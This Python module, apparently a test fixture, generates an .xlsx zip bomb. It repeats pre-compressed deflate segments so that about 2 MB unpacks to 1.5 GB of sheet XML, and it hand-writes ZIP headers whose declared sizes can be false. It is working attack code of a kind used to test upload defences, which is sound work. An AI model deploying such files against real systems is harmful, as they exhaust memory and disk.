"""An .xlsx whose worksheet unpacks to far more than its size: a zip bomb, built in a moment.

A real workbook (openpyxl's) with its sheet replaced by a header row and one chunk of rows repeated
many times. Deflate with a full flush after the chunk resets the compressor, so the same compressed
bytes repeated decode to the chunk repeated: 1.5 GB of sheet XML from about 2 MB of file, without
compressing 1.5 GB. The ZIP is written by hand (local headers, central directory) so the sizes it
declares can be honest or a lie.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from pathlib import Path

import openpyxl

_SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
               '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
               '<row><c t="inlineStr"><is><t>姓名</t></is></c><c t="inlineStr"><is><t>身份证号</t></is></c></row>'
               .encode())
_SHEET_TAIL = b"</sheetData></worksheet>"
_ROW = '<row><c t="inlineStr"><is><t>张三</t></is></c><c t="inlineStr"><is><t>110105198001011234</t></is></c></row>'


def _deflated(data: bytes) -> bytes:
    co = zlib.compressobj(6, zlib.DEFLATED, -15)
    return co.compress(data) + co.flush()


def write_zip_bomb(path: Path, unpacked_mb: int = 1500, declare_mb: int | None = None) -> Path:
    """*unpacked_mb* of sheet XML; the directory declares that size, or *declare_mb* when given (a lie)."""
    base = path.with_name("base-" + path.name)
    wb = openpyxl.Workbook()
    wb.active.append(["姓名", "身份证号"])
    wb.save(base)
    chunk = (_ROW * (1024 * 1024 // len(_ROW))).encode()
    repeats = unpacked_mb * 1024 * 1024 // len(chunk)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = co.compress(_SHEET_HEAD) + co.flush(zlib.Z_FULL_FLUSH)
    segment = co.compress(chunk) + co.flush(zlib.Z_FULL_FLUSH)
    tail = co.compress(_SHEET_TAIL) + co.flush()
    size = len(_SHEET_HEAD) + len(chunk) * repeats + len(_SHEET_TAIL)
    crc = zlib.crc32(_SHEET_HEAD)
    if declare_mb is None:  # an honest directory: the real checksum of what it unpacks to
        for _ in range(repeats):
            crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(_SHEET_TAIL, crc)
    parts = []
    with zipfile.ZipFile(base) as z:
        for info in z.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                declared = size if declare_mb is None else declare_mb * 1024 * 1024
                parts.append((info.filename, [head, *([segment] * repeats), tail], declared, crc))
            else:
                data = z.read(info)
                parts.append((info.filename, [_deflated(data)], len(data), zlib.crc32(data)))
    base.unlink()
    central = b""
    with path.open("wb") as out:
        for name, pieces, declared, crc in parts:
            offset = out.tell()
            packed = sum(len(p) for p in pieces)
            encoded = name.encode()
            out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, packed, declared,
                                  len(encoded), 0) + encoded)
            for piece in pieces:
                out.write(piece)
            central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, packed, declared,
                                   len(encoded), 0, 0, 0, 0, 0, offset) + encoded
        start = out.tell()
        out.write(central)
        out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(parts), len(parts), len(central), start, 0))
    return path
